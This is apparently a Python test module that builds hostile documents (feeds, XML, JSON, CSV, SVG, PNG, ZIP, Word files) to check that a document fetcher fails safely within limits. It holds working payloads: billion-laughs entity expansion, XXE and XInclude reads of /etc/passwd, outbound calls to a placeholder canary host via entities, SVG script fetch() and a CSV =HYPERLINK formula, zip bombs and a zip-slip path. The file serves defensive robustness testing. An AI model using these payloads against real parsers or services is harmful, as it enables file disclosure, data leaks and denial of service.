"""Documents that are not pages: feeds, data, pictures and archives built to break their readers."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.hostile.case import OK, Case, cases_of

_ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
_LAUGHS = f'<!DOCTYPE x [<!ENTITY e0 "lol">{_ENTITIES}]>'
_ITEM = "<item><title>t</title><link>http://{canary}/</link></item>"

Build = Callable[[], bytes]


def _rss(inner: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0"?>{doctype}<rss><channel>{inner}</channel></rss>'.encode()


def _png(width: int, height: int, rows: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def _zip(names: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return packed.getvalue()


def _word(document: bytes) -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": document})


_XML = b"application/xml"
_FEED = b"application/rss+xml"
_JSON = b"application/json"
_WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_SVG = b"image/svg+xml"

DOCUMENTS: dict[str, tuple[bytes, Build]] = {
    "feed-laughs": (_FEED, lambda: _rss("<item><title>&e9;</title></item>", _LAUGHS)),
    "feed-entity-of-file": (
        _FEED,
        lambda: _rss(
            "<item><title>&a;</title></item>",
            '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
        ),
    ),
    "feed-entity-of-canary": (
        _FEED,
        lambda: _rss(
            "<item><title>&a;</title></item>",
            '<!DOCTYPE x [<!ENTITY a SYSTEM "http://{canary}/">]>',
        ),
    ),
    "feed-dtd-of-canary": (_FEED, lambda: _rss(_ITEM, '<!DOCTYPE x SYSTEM "http://{canary}/">')),
    "feed-many": (_FEED, lambda: _rss(_ITEM * 100_000)),
    "feed-deep": (_FEED, lambda: _rss("<item>" * 100_000)),
    "feed-of-html": (
        _FEED,
        lambda: _rss("<item><description><![CDATA[" + "<b><p>x" * 50_000 + "]]></description>"),
    ),
    "feed-dates": (_FEED, lambda: _rss("<item><pubDate>" + "9" * 100_000 + "</pubDate></item>")),
    "feed-cut": (_FEED, lambda: _rss(_ITEM)[:40]),
    "atom-base-canary": (
        b"application/atom+xml",
        lambda: b'<feed xml:base="http://{canary}/"><entry><link href="x"/></entry></feed>',
    ),
    "atom-loop": (
        b"application/atom+xml",
        lambda: b'<feed><link rel="next" href="/doc/atom-loop"/><entry/></feed>',
    ),
    "xml-stylesheet": (
        _XML,
        lambda: b'<?xml-stylesheet type="text/xsl" href="http://{canary}/x.xsl"?><a>x</a>',
    ),
    "xml-included": (
        _XML,
        lambda: (
            b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="file:///etc/passwd" parse="text"/></a>'
        ),
    ),
    "xml-attributes": (
        _XML,
        lambda: b"<a " + b" ".join(b'a%d="1"' % n for n in range(200_000)) + b"/>",
    ),
    "xml-namespaces": (
        _XML,
        lambda: b"<a " + b" ".join(b'xmlns:n%d="u%d"' % (n, n) for n in range(50_000)) + b"/>",
    ),
    "xml-utf-7": (_XML, lambda: b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-'),
    "json-deep": (_JSON, lambda: b"[" * 100_000 + b"]" * 100_000),
    "json-open": (_JSON, lambda: b'{"a":' * 500_000),
    "json-number": (_JSON, lambda: b"9" * 2_000_000),
    "json-wide": (_JSON, lambda: json.dumps({f"k{n}": n for n in range(200_000)}).encode()),
    "json-string": (_JSON, lambda: json.dumps("\\u0000" * 1_000_000).encode()),
    "json-feed": (
        b"application/feed+json",
        lambda: json.dumps({"version": "1", "items": [{"url": "file:///x"}] * 50_000}).encode(),
    ),
    "csv-wide": (b"text/csv", lambda: b"," * 2_000_000),
    "csv-long": (b"text/csv", lambda: b"a,b\n" * 1_000_000),
    "csv-quotes": (b"text/csv", lambda: b'"' * 3_000_001),
    "csv-formula": (b"text/csv", lambda: b'=HYPERLINK("http://{canary}/"),@SUM(1),+1,-1\n'),
    "csv-nul": (b"text/csv", lambda: b"a\0,b\n" * 10_000),
    "text-long": (b"text/plain", lambda: b"a" * 9_800_000),
    "text-controls": (b"text/plain", lambda: b"\x1b[2J\x1b]0;x\x07\x9b" * 10_000),
    "svg-laughs": (_SVG, f"{_LAUGHS}<svg><text>&e9;</text></svg>".encode),
    "svg-outward": (
        _SVG,
        lambda: (
            b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{canary}/"/>'
            b'<use href="http://{canary}/#x"/><script>fetch("http://{canary}/")</script></svg>'
        ),
    ),
    "svg-copies": (
        _SVG,
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><g id="g0"><path/></g>'
            + "".join(
                f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 12)
            )
            + "</svg>"
        ).encode,
    ),
    "png-huge": (b"image/png", lambda: _png(60_000, 60_000)),
    "png-largest": (b"image/png", lambda: _png(2**31 - 1, 2**31 - 1)),
    "png-no-size": (b"image/png", lambda: _png(0, 0)),
    "png-zeros": (b"image/png", lambda: _png(6_000, 6_000, bytes(6_000 * 18_001))),
    "png-cut": (b"image/png", lambda: _png(100, 100)[:30]),
    "gif-garbage": (b"image/gif", lambda: b"GIF89a\xff\xff\xff\xff" + b"\xff" * 1_000),
    "webp-garbage": (b"image/webp", lambda: b"RIFF\xff\xff\xff\xffWEBPVP8L" + b"\xff" * 1_000),
    "icon-garbage": (b"image/x-icon", lambda: b"\0\0\1\0\xff\xff" + b"\xff" * 10_000),
    "zip-bomb": (b"application/zip", lambda: _zip({"zeros": bytes(200_000_000)})),
    "zip-slip": (b"application/zip", lambda: _zip({"../../../etc/passwd": b"x"})),
    "word-bomb": (_WORD, lambda: _word(b"<w:p>" + b" " * 200_000_000)),
    "word-laughs": (_WORD, lambda: _word(f"{_LAUGHS}<w:document>&e9;</w:document>".encode())),
    "word-entity-of-canary": (
        _WORD,
        lambda: _word(b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://{canary}/">]><a>&a;</a>'),
    ),
    "sheet-bomb": (_SHEET, lambda: _zip({"xl/sharedStrings.xml": bytes(200_000_000)})),
    "exe": (b"application/x-msdownload", lambda: b"MZ" + bytes(1_000)),
    "html-as-png": (b"image/png", lambda: b"<p>no picture</p>"),
    "pdf-as-html": (b"text/html", lambda: b"%PDF-1.7 nothing more"),
    "zip-as-html": (b"text/html", lambda: _zip({"a": b"b"})),
    "gzip-as-text": (b"text/plain", lambda: zlib.compress(bytes(100_000_000))),
    "many-parts": (
        b"multipart/x-mixed-replace; boundary=x",
        lambda: b"--x\r\nContent-Type: text/html\r\n\r\n<p>x\r\n" * 10_000,
    ),
    "web-archive": (
        b"multipart/related; boundary=x",
        lambda: b"--x\r\nContent-Location: file:///etc/passwd\r\n\r\n<p>x\r\n--x--",
    ),
    "javascript": (b"text/javascript", lambda: b"fetch('http://{canary}/')"),
    "playlist": (b"application/vnd.apple.mpegurl", lambda: b"#EXTM3U\nhttp://{canary}/a.ts\n"),
    "manifest": (b"application/manifest+json", lambda: b'{"start_url": "http://{canary}/"}'),
}


def document_cases() -> list[Case]:
    """Return every document that must be read, handed on or refused, within bounds."""
    urls = [{"url": f"http://{{site}}/doc/{name}"} for name in DOCUMENTS]
    codes = (OK, "PARSE_LIMIT", "CONTENT_TOO_LARGE", "SCRAPE_FAILED", "UNSUPPORTED")
    return cases_of("document", urls, *codes)
